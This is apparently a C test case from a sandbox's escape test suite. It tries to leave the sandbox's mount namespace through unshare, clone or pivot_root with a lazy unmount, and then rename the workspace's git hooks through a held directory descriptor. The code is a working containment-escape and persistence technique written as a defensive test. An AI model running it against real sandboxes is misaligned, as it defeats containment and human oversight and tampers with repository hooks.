/*
 * Takes the sandbox's mounts down by leaving their namespace: holds a descriptor of the workspace's .git, makes a
 * namespace of its own, and writes through the descriptor what was frozen.
 *
 * Why: when the last process of a mount namespace goes, its mounts fall, and a descriptor that was opened there shows
 * what they covered. A process of bawn's stays in it, and nobody can make another.
 * Seen: bubblewrap 0.8.0 without --unshare-pid.
 *
 * case teardown-by-unshare: unshare => EPERM unshare
 *   kernel: leave the mount namespace that holds frozen files (unshare)
 * case teardown-by-clone: clone => EPERM clone
 *   kernel: leave the mount namespace that holds frozen files (clone)
 *
 * The second way: pivot into the new namespace's own root, let go of the old one lazily, and act through the descriptor.
 * case pivot-and-detach: pivot => EPERM unshare | harms workspace
 *   persistence: detach the mounts and change git hooks through an open directory
 */
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "attack.h"

static void change_frozen(int git)
{
    must(renameat(git, "hooks", git, "hooks-gone"), "renameat");
    must(mkdirat(git, "hooks", 0755), "mkdirat");
}

ATTACK(teardown)
{
    const char *act = argument(argc, argv, 1);
    int git = open(".git", O_RDONLY | O_DIRECTORY);
    must(git, "open");
    if (strcmp(act, "clone") == 0) {
        long child = syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0);
        must(child, "clone");
        if (child == 0)
            _exit(0);
        waitpid((pid_t)child, NULL, 0);
        done();
    }
    must(unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare");
    if (strcmp(act, "pivot") == 0) {
        must(mount("none", "/tmp", "tmpfs", 0, NULL), "mount");
        must(chdir("/tmp"), "chdir");
        must(syscall(SYS_pivot_root, ".", "."), "pivot_root");
        must(umount2(".", MNT_DETACH), "umount");
        change_frozen(git);
    }
    done();
}
